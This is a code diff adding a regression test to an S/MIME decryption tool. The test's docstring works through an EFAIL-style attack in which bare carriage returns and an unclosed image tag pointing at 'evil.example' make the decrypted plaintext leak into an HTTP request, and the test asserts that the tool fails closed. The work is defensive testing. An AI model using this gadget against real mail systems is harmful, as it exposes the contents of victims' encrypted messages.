@@ -371,3 +371,58 @@ def test_f5_header_block_ended_early_by_bare_crs_puts_attacker_text_above_the_bl
     info = _headers(tmp_path, ["alice.pub.gpg"], message)
     assert info.get("PGP-Signature-Valid") == "True", info
     assert not _claims_whole_valid(info), info
+
+
+def test_f5_efail_gadget_behind_bare_crs_is_decrypted_next_to_the_plaintext(tmp_path):
+    """Attack (F5 as EFAIL direct exfiltration): an S/MIME message encrypted to bob (openssl cms -encrypt to
+    the corpus pub-bob; its plaintext is text/html and holds an apostrophe, as English text does) re-sent to
+    bob by eve, with one header line of hers:
+
+        Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"\\r\\n
+        ...
+        Subject: hello\\r\\r<img src='http://evil.example/x?\\r\\n
+        \\r\\n
+        MIICNAYJKoZIhvcNAQcD...   (the ciphertext)
+
+    ciphermilter sees one Subject field and an enveloped-data message that is whole: it decrypts in place
+    and writes the plaintext's Content-Type (text/html) over the outer one. The Subject line stays as it was.
+    Python's email then ends the header block at the two bare CRs: the body it renders as text/html is
+    "<img src='http://evil.example/x?" + the rest of the header block + the decrypted HTML, so the image URL
+    runs over the plaintext up to its first apostrophe: the secret leaves in an HTTP request (EFAIL,
+    CVE-2017-17689, which the spec's "what is decrypted where" rule exists to close).
+
+    Now (ce3a094): SMIME-Encrypted: True, Encryption-Algorithm-0: AES-256-CBC, decrypted in place, no
+    SMIME-Mixed-Content and no SMIME-Not-Decrypted-0: "the whole message was the encrypted content".
+
+    Fail closed: a header block with a bare CR is ambiguous: the encrypted content is not whole, stays as
+    received (SMIME-Not-Decrypted-0 with a reason) and SMIME-Mixed-Content: True -- the is_whole /
+    Entity.structure_is_ambiguous path, extended to the header block.
+    """
+    import email
+    import email.policy
+    from html.parser import HTMLParser
+
+    message = (VECTORS / "smime-enveloped-bare-cr-efail.eml").read_bytes()
+    from conftest import corpus_store_file
+    eml = tmp_path / "message.eml"
+    eml.write_bytes(message)
+    result = CliRunner().invoke(main, ["--store", str(corpus_store_file(tmp_path)), "decrypt", "--rcpt", RCPT,
+                                       str(eml)])
+    assert result.exit_code == 0, result.output
+    out = result.stdout_bytes
+    info = {h.name[len("X-CipherMail-Info-"):]: h.value.strip() for h in split_headers(out)[0]
+            if h.name.startswith("X-CipherMail-Info-")}
+    assert info.get("SMIME-Encrypted") == "True", info
+
+    sources: list[str] = []
+
+    class Images(HTMLParser):
+        def handle_starttag(self, tag, attrs):
+            sources.extend(value for name, value in attrs if tag == "img" and name == "src" and value)
+
+    shown = email.message_from_bytes(out, policy=email.policy.default)
+    if shown.get_content_type() == "text/html":
+        Images().feed(shown.get_content())
+    leaked = [src for src in sources if "BLUEFALCON-7731" in src]
+    assert not leaked, (info, leaked)
+    assert info.get("SMIME-Mixed-Content") == "True", info
